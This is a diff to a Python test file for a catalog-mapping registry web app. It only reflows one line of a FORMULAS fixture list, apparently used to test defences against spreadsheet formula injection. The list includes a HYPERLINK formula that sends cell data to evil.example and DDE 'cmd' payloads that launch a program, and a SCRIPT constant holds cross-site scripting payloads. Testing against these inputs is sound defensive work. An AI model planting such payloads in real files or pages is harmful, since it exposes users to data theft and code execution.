@@ -19,7 +19,8 @@ from registry.mapping import create_map_set, decide, suggest
 from registry.models import CatalogCreate, MapSetCreate
 from registry.web import create_app
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
             "\t=1+1", "\r=1+1"]
 SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
 SOURCE = [{"code": "L01", "display": FORMULAS[0], "attributes": {"note": FORMULAS[1]},
